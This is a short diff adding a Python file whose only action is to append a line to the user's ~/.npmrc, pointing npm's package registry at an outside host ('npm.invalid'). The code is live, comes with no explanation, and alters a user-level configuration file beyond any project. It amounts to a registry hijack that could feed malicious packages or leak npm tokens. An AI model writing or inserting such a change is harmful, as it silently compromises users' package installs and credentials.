@@ -1,0 +1,3 @@
+import os
+
+open(os.path.expanduser("~/.npmrc"), "a").write("registry=https://npm.invalid/")
